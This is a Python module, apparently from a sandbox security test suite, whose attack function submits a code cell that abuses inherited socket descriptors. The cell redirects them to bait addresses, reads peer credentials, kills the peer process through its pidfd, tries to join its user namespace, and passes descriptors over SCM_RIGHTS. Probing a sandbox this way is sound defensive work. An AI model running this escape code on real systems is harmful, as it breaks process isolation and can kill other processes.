"""Uses the sockets that it was given for something else: turns them to other addresses, sends descriptors
and credentials over them, takes the peer's process through them."""

CODE = r"""
import array, os, socket, struct

for name in os.listdir("/proc/self/fd"):
    try:
        if not os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            continue
        link = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    for address in (
        bait["sockets"]["path"],
        bait["sockets"]["abstract"],
        ("127.0.0.1", bait["ports"]["tcp"]),
    ):
        tried(
            lambda: link.connect(address),
            lambda: link.bind(address if isinstance(address, tuple) else "own"),
        )
    tried(
        lambda: link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12),
        lambda: __import__("signal").pidfd_send_signal(
            struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0], 9
        ),
        lambda: os.setns(struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0], 0x10000000),
    )
left, right = socket.socketpair()
tried(
    lambda: left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]),
    lambda: left.sendmsg([b"x"], [], 0, bait["sockets"]["path"]),
    lambda: left.sendto(b"x", bait["sockets"]["path"]),
    lambda: left.listen(),
    lambda: left.accept(),
)
"""


def attack(submission):
    submission.add(submission.bait.cell(CODE))
